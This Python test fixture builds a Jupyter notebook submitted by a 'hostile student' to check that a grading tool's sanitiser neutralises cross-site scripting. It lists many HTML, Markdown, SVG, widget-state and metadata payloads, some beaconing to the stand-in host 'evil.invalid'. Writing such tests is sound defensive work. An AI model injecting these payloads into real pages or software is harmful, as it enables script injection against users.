"""A hostile student's a1 submission: every payload the sanitiser must make inert.

Each payload announces itself if it ever runs (``document.title``, an ``alert``, a mark on
the page, or a request to ``evil.invalid``), and sits beside plain words the grader must
still be able to read. Used by tests/test_sanitize.py and the browser test of formgrader
and feedback (tests/browser/test_hostile_submission.py).
"""

from __future__ import annotations

import base64
from pathlib import Path

import nbformat
from nbformat.notebooknode import NotebookNode

ASSIGNMENT = "a1_diagnosis"
STUDENT = "hostile"
EVIL_HOST = "evil.invalid"
TITLE = "PWNED"  # every title-changing payload writes this
# What a script would do, each announced in a different way.
SET_TITLE = f"document.title='{TITLE}'"
MARK_PAGE = "document.documentElement.setAttribute('data-pwned','yes')"


def beacon(name: str) -> str:
    return f"fetch('http://{EVIL_HOST}/{name}')"


# payload id -> (student's words, the payload). The short answer joins them all.
MARKDOWN_PAYLOADS: dict[str, tuple[str, str]] = {
    "script tag": ("Fluids help clear the tracer.", f"<script>{SET_TITLE}</script>"),
    "img onerror": ("Empty the bladder often.", f'<img src=x onerror="{SET_TITLE}">'),
    "svg onload": ("Report pain that is new.", f'<svg onload="{MARK_PAGE}"><circle r="4"/></svg>'),
    "svg script": (
        "Ask about pregnancy first.",
        f"<svg><script>{beacon('svg-script')}</script></svg>",
    ),
    "body onload": ("Check the allergy band.", '<body onload="alert(1)">'),
    "details ontoggle": (
        "Keep the patient warm.",
        f'<details open ontoggle="{SET_TITLE}"><summary>Details</summary>'
        "More care notes.</details>",
    ),
    "javascript: link": (
        "Read the care plan.",
        "[Open the plan](javascript:alert(2)) and "
        '<a href="java&#9;script:alert(3)">the leaflet</a>',
    ),
    "data:text/html link": (
        "See the handout.",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==">handout</a>',
    ),
    "iframe srcdoc": (
        "Teach back the plan.",
        f'<iframe srcdoc="<script>parent.{SET_TITLE}</script>"></iframe>',
    ),
    "form": (
        "Document the teaching.",
        f'<form action="http://{EVIL_HOST}/form"><input name="k"><button>Send</button></form>',
    ),
    "external image": ("Bring the scan report.", f"![scan](http://{EVIL_HOST}/beacon.png)"),
    "meta refresh": (
        "Call if a fever starts.",
        f'<meta http-equiv="refresh" content="0;url=http://{EVIL_HOST}/meta">',
    ),
    "style overlay": (
        "Offer pain relief before moving.",
        '<style>body{display:none}</style><span style="position:fixed;top:0;left:0;'
        'width:100%;height:100%;background:red">Overlay text</span>',
    ),
}
# Markdown that closes the table it sits in and opens a full-page overlay.
TABLE_BREAKOUT = (
    "| Step | Note |\n|---|---|\n"
    '| Breakout row | </td></tr></table><div style="position:fixed;inset:0;'
    f'background:red" onclick="{SET_TITLE}">Table overlay</div> |\n'
)
TABLE_WORDS = "Breakout row"


def short_answer() -> str:
    lines = ["My answer for the patient:", ""]
    for words, payload in MARKDOWN_PAYLOADS.values():
        lines += [f"{words} {payload}", ""]
    return "\n".join(lines) + "\n" + TABLE_BREAKOUT


# Executed by nbgrader (Execute) in the student's kernel: every output type nbconvert
# renders as HTML or script. q1 stays a well-formed answer so scoring still runs.
SVG_OUTPUT = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
    f'<script>{beacon("output-svg")}</script><circle cx="10" cy="10" r="8"/></svg>'
)
OUTPUT_CODE = f"""# Question 1: one letter from A–D in quotes
q1 = "C"
from IPython.display import HTML, SVG, Javascript, Markdown, display
print({"Printed words stay text: <b onmouseover=alert(5)>not bold</b>"!r})
display(HTML({'Output words one. <img src=x onerror="' + SET_TITLE + '">'!r}))
display(Javascript({MARK_PAGE!r}))
display(SVG({SVG_OUTPUT!r}))
display(Markdown("Output words two. [click](javascript:alert(6))"))
display({{"image/png": {'x" onerror="' + SET_TITLE + '" a="'!r}, "text/plain": "png"}}, raw=True)
display({{"application/vnd.jupyter.widget-view+json":
         {{"model_id": "forged", "version_major": 2, "version_minor": 0}},
         "text/plain": "Output words three."}}, raw=True)
display({{"application/vnd.jupyter.widget-state+json": {{"state": {{}}}},
         "text/html": {"<b>Output words four.</b><script>" + SET_TITLE + "</script>"!r}}}, raw=True)
"""
OUTPUT_WORDS = tuple(f"Output words {n}." for n in ("one", "two", "three", "four"))

SVG_WITH_SCRIPT = (
    f'<svg xmlns="http://www.w3.org/2000/svg"><script>{beacon("attachment")}</script></svg>'
)
# The smallest valid PNG (one transparent pixel).
PNG_PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)
ATTACHMENT_WORDS = "A drawing of the scan room."
RAW_WORDS = "Raw cell words."
# Forged widget state: an HTML widget whose value is a script, and a title for the page.
WIDGET_STATE = {
    "application/vnd.jupyter.widget-state+json": {
        "version_major": 2,
        "version_minor": 0,
        "state": {
            "forged": {
                "model_name": "HTMLModel",
                "model_module": "@jupyter-widgets/controls",
                "model_module_version": "2.0.0",
                "state": {"value": f'<img src=x onerror="{SET_TITLE}">'},
            }
        },
    }
}


def hostile_notebook(release: Path) -> NotebookNode:
    """The released a1 notebook answered by a hostile student."""
    nb = nbformat.read(release / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id == "a1_sa":
            cell.source = short_answer()
        elif grade_id == "a1_q01_answer":
            cell.source = OUTPUT_CODE
        cell.metadata["jupyter"] = {"source_hidden": False}
        cell.metadata["tags"] = ['"><script>alert(7)</script>']
    drawing = nbformat.v4.new_markdown_cell(
        f"{ATTACHMENT_WORDS} ![room](attachment:room.svg) ![pixel](attachment:pixel.png)"
    )
    drawing.attachments = {
        "room.svg": {"image/svg+xml": base64.b64encode(SVG_WITH_SCRIPT.encode()).decode()},
        "pixel.png": {"image/png": PNG_PIXEL},
    }
    raw = nbformat.v4.new_raw_cell(f"{RAW_WORDS} <script>{SET_TITLE}</script>")
    nb.cells += [drawing, raw]
    nb.metadata["widgets"] = WIDGET_STATE
    nb.metadata["title"] = f"</title><script>{SET_TITLE}</script>"
    return nb


def all_student_words() -> list[str]:
    words = [w for w, _ in MARKDOWN_PAYLOADS.values()]
    return [*words, TABLE_WORDS, *OUTPUT_WORDS, ATTACHMENT_WORDS, RAW_WORDS]


def submit_hostile(root: Path) -> Path:
    """Write the hostile notebook as ``root``'s submission; its path."""
    folder = root / "submitted" / STUDENT / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{ASSIGNMENT}.ipynb"
    nbformat.write(hostile_notebook(root / "release"), path)
    return path
